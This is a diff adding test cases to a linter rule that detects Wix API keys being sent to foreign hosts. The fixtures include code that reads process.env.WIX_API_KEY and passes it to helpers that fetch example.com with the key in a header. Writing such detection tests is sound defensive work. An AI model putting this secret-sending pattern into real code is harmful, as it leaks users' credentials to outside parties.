@@ -31,6 +31,7 @@ const cases: readonly (readonly [about: string, rule: RuleName, files: Files, re
   ['a variable handed to an object of another file', 'no-key-to-foreign-host', { 'wix.js': `export const api = { send(value) { return go(value); } };\nfunction go(value) { return ${HOOK}; }\napi.other = 1;`, 'app.js': `import { api } from './wix.js';\napi.send(process.env.WIX_API_KEY);` }, ['app.js: process.env.WIX_API_KEY']],
   ['a variable handed to an instance of another file', 'no-key-to-foreign-host', { 'wix.js': `class Api {\n  send(value) { this.value = value; return this.go(); }\n  go() { const { value } = this; return ${HOOK}; }\n}\nexport const api = new Api();\nexport const other = 1;`, 'app.js': `import { api } from './wix.js';\napi.send(process.env.WIX_API_KEY);` }, ['app.js: process.env.WIX_API_KEY']],
   ['a variable handed to what a function of another file returns', 'no-key-to-foreign-host', { 'wix.js': `export const make = (url) => (value) => fetch(url, { headers: { 'x-a': value } });\nexport const other = 1;`, 'app.js': `import { make } from './wix.js';\nmake('https://example.com')(process.env.WIX_API_KEY);` }, ['app.js: process.env.WIX_API_KEY']],
+  ['a variable that is read long before', 'no-key-to-foreign-host', { 'hook.js': `export const send = ({ value }) => ${HOOK};`, 'app.js': `import { send } from './hook.js';\nconst key = process.env.WIX_API_KEY;\nsend({ value: key });\nsend({ value: 'Bearer ' + key });` }, ['app.js: process.env.WIX_API_KEY']],
   ['a key of another service handed to such a function', 'no-key-to-foreign-host', { 'hook.js': `export const send = (value) => ${HOOK};`, 'app.js': `import { send } from './hook.js';\nsend(process.env.HOOK_API_KEY);` }, []],
   ['a variable handed to a function that sends it to Wix', 'no-key-to-foreign-host', { 'wix.js': `export const send = (apiKey, siteId) => ${SEND.replace(';', '')};`, 'app.js': `import { send } from './wix.js';\nsend(process.env.WIX_API_KEY);` }, []],
   ['a variable handed to a function that sends it to this machine', 'no-key-to-foreign-host', { 'proxy.js': `export const send = (value) => ${HOOK.replace('example.com', 'localhost:3000')};`, 'app.js': `import { send } from './proxy.js';\nsend(process.env.WIX_API_KEY);` }, []],
@@ -40,6 +41,11 @@ const cases: readonly (readonly [about: string, rule: RuleName, files: Files, re
 describe('what other files say', () => {
   test.each(cases)('%s', async (_, rule, files, reports) => {
     expect((await reportsIn(makeFolder(files), { rule })).map(({ file, text }) => `${file}: ${text}`)).toEqual(reports);
+  });
+
+  test('that the request is not of this file', async () => {
+    const reports = await reportsIn(makeFolder({ 'hook.js': `export const send = (value) => ${HOOK};`, 'app.js': `import { send } from './hook.js';\nsend(process.env.WIX_API_KEY);` }), { rule: 'no-key-to-foreign-host' });
+    expect(reports.map(({ message }) => message)).toEqual([expect.stringMatching(/^Another file that is handed this Wix key sends it/)]);
   });
 
   test('nothing, with crossFile off', async () => {
